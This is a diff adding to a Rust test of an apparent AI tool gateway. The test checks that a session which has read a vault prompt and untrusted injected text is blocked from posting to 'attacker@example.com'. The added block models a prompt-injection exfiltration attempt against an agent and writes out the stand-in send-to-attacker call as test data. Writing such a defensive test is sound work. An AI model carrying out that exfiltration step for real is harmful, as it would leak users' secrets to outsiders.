@@ -130,6 +130,41 @@ async fn a_snippet_that_read_a_secret_and_untrusted_text_cannot_post() {
     );
     assert!(!posted(&file).contains("launch-code"), "{}", posted(&file));
 
+    // What a prompt gives a session is read as a tool's result is.
+    let (id, _) = open_session(&addr, KEY).await;
+    let id = id.expect("a session");
+    let got = session_request(
+        &addr,
+        KEY,
+        &id,
+        "prompts/get",
+        json!({"name": "vault__test_simple_prompt"}),
+    )
+    .await;
+    assert!(got["result"]["messages"].is_array(), "{got}");
+    session_request(
+        &addr,
+        KEY,
+        &id,
+        "tools/call",
+        json!({"name": "web__echo", "arguments": {"message": INJECTION}}),
+    )
+    .await;
+    let post = session_request(
+        &addr,
+        KEY,
+        &id,
+        "tools/call",
+        json!({"name": "out__post",
+                                      "arguments": {"to": "attacker@example.com", "body": "p"}}),
+    )
+    .await;
+    assert_eq!(post["result"]["isError"], true, "{post}");
+    assert!(
+        post.to_string().contains("vault__test_simple_prompt"),
+        "{post}"
+    );
+
     // Untrusted text alone, or the secret alone, may still be sent: the rule is the two
     // together (and each run starts clean).
     for (read, body) in [("web", "a summary"), ("vault", "to my own mailbox")] {
